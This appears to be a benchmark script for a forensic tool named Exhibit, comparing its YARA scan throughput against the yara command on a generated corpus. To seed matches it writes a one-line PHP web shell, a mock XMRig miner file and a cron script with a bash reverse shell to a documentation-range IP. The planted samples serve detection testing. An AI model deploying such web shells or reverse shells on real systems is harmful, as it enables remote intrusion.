#!/usr/bin/env bash
# YARA throughput of Exhibit against the `yara` command (libyara, Debian's
# package) side by side in one run, with one 100-rule set, on the capture
# benchmark corpus (benches/gen_corpus.py, ~2.3 GB at scale 1) with a few
# planted samples.
#
#   benches/yara_bench.sh [--no-build] [SCALE]
#
# Steps: build the release binary (with the default features, so with
# `yara`); generate the corpus at SCALE (default 1.0) and plant a PHP web
# shell, an ELF miner and a reverse shell; capture it once with
# `exhibit capture` (the default compression); generate 100 rules
# (benches/gen_yara_rules.py); warm the page cache; then time, $RUNS times
# each (default 3, median reported):
#   exhibit-archive  `exhibit scan ARCHIVE --yara RULES`: every file read
#                    back from the ZIP (inflated in memory) and scanned;
#   exhibit-dir      `exhibit scan DIR --yara RULES` on the same files on
#                    disk (the walk and SHA-256 of the folder come first and
#                    are not counted in the YARA figure);
#   yara             `yara -r -p THREADS RULES DIR`, the peer: the same
#                    files on disk, the same rules (its default mode, as
#                    Exhibit's: every match recorded, up to a cap).
# Every file is scanned (--yara-max-size 4G: the corpus's SQL dump is over
# the default cap). Exhibit's YARA time is the `duration_ms` its JSON summary reports for
# the YARA pass (read and scan), with the bytes it scanned; the total wall
# time of the command is printed beside it. Prints MB/s and the ratio to
# yara's. Needs: python3, yara (apt-get install yara), GNU time.
set -euo pipefail
cd "$(dirname "$0")/.."
BUILD=1
SCALE=1.0
for a in "$@"; do
  case "$a" in
    --no-build) BUILD=0 ;;
    [0-9]*) SCALE=$a ;;
    *) echo "usage: $0 [--no-build] [SCALE]" >&2; exit 2 ;;
  esac
done
RUNS=${RUNS:-3}
THREADS=${THREADS:-$(nproc)}
WORK=${WORK:-/tmp/exhibit-yara-bench}
BIN=${BIN:-$PWD/target/release/exhibit}
if [ "$BUILD" = 1 ]; then
  cargo build --release --quiet
fi
[ -x "$BIN" ] || { echo "no $BIN (cargo build --release)" >&2; exit 2; }
command -v yara >/dev/null || { echo "no yara command (apt-get install yara)" >&2; exit 2; }
command -v python3 >/dev/null || { echo "python3 is needed" >&2; exit 2; }

CORPUS=$WORK/corpus-$SCALE
[ -d "$CORPUS" ] || python3 benches/gen_corpus.py "$CORPUS" --scale "$SCALE" >/dev/null
if [ ! -f "$CORPUS/opt/cron/backup.sh" ]; then
  rm -rf "$WORK/archive-$SCALE"
  mkdir -p "$CORPUS/var/www/html/uploads" "$CORPUS/tmp/.x" "$CORPUS/opt/cron"
  printf '<?php if(isset($_POST["c"])){ system($_POST["c"]); } ?>\n' > "$CORPUS/var/www/html/uploads/thumb.php"
  { head -c 4096 /bin/true; printf '\0stratum+tcp://pool.example.net:4444\0XMRig\0'; } > "$CORPUS/tmp/.x/kworker"
  printf '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' > "$CORPUS/opt/cron/backup.sh"
fi
ARCH_DIR=$WORK/archive-$SCALE
if [ ! -d "$ARCH_DIR" ] || [ -z "$(ls "$ARCH_DIR"/*.zip 2>/dev/null)" ]; then
  rm -rf "$ARCH_DIR"; mkdir -p "$ARCH_DIR"
  "$BIN" capture "$CORPUS" -o "$ARCH_DIR" --case BENCH --examiner bench -q --json >/dev/null
fi
ARCHIVE=$(ls "$ARCH_DIR"/*.zip | head -1)
RULES=$WORK/rules100.yar
python3 benches/gen_yara_rules.py "$RULES" 100

BYTES=$(du -sb "$CORPUS" | cut -f1)
FILES=$(find "$CORPUS" -type f | wc -l)
echo "corpus: $CORPUS  $FILES files, $BYTES bytes (scale $SCALE); archive $(stat -c %s "$ARCHIVE") bytes"
echo "rules: 100 ($RULES); $(nproc) cores, $THREADS yara threads; load $(cut -d' ' -f1-3 /proc/loadavg); $(date -u +%FT%TZ)"
echo "exhibit: $("$BIN" --version); yara: $(yara --version)"
# Warm the page cache for every reader.
cat "$ARCHIVE" > /dev/null
find "$CORPUS" -type f -exec cat {} + > /dev/null

OUT=$(mktemp -d /tmp/exhibit-yara-bench-out.XXXXXX)
trap 'rm -rf "$OUT"' EXIT
now() { date +%s.%N; }
median() { sort -g | awk '{a[NR]=$1} END {print a[int((NR+1)/2)]}'; }

# exhibit_run NAME SNAPSHOT: YARA seconds and bytes from its JSON; wall time.
exhibit_run() {
  local name=$1 snap=$2
  for r in $(seq 1 "$RUNS"); do
    local t0 t1
    t0=$(now)
    "$BIN" scan "$snap" --yara "$RULES" --yara-max-size 4G --json -q > "$OUT/$name.$r.json" || true
    t1=$(now)
    python3 - "$OUT/$name.$r.json" "$t0" "$t1" >> "$OUT/$name" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
y = d["yara"]
print(y["duration_ms"] / 1000, y["bytes_scanned"], y["files_scanned"], len(y["matches"]),
      len(y["skipped"]), float(sys.argv[3]) - float(sys.argv[2]))
PY
  done
}
exhibit_run exhibit-archive "$ARCHIVE"
exhibit_run exhibit-dir "$CORPUS"
for r in $(seq 1 "$RUNS"); do
  t0=$(now)
  yara -r -p "$THREADS" "$RULES" "$CORPUS" > "$OUT/yara.out.$r" 2>"$OUT/yara.err.$r" || true
  t1=$(now)
  echo "$(echo "$t1 - $t0" | bc -l) $(wc -l < "$OUT/yara.out.$r")" >> "$OUT/yara"
done

YS=$(cut -d' ' -f1 "$OUT/yara" | median)
YM=$(awk -v b="$BYTES" -v s="$YS" 'BEGIN {printf "%.0f", b / 1e6 / s}')
printf '%-16s %8s %10s %8s %8s %9s %s\n' tool yara_s MB_scanned MB/s matches wall_s ratio_to_yara
for name in exhibit-archive exhibit-dir; do
  S=$(cut -d' ' -f1 "$OUT/$name" | median)
  B=$(head -1 "$OUT/$name" | cut -d' ' -f2)
  M=$(head -1 "$OUT/$name" | cut -d' ' -f4)
  SK=$(head -1 "$OUT/$name" | cut -d' ' -f5)
  W=$(cut -d' ' -f6 "$OUT/$name" | median)
  awk -v n="$name" -v s="$S" -v b="$B" -v m="$M" -v w="$W" -v ym="$YM" -v sk="$SK" 'BEGIN {
    mbs = b / 1e6 / s
    printf "%-16s %8.2f %10.0f %8.0f %8d %9.2f %.2fx  (%d skipped)\n", n, s, b / 1e6, mbs, m, w, mbs / ym, sk
  }'
done
printf '%-16s %8.2f %10.0f %8s %8d %9.2f %s\n' yara "$YS" "$(echo "$BYTES / 1000000" | bc)" "$YM" \
  "$(head -1 "$OUT/yara" | cut -d' ' -f2)" "$YS" "1.00x"
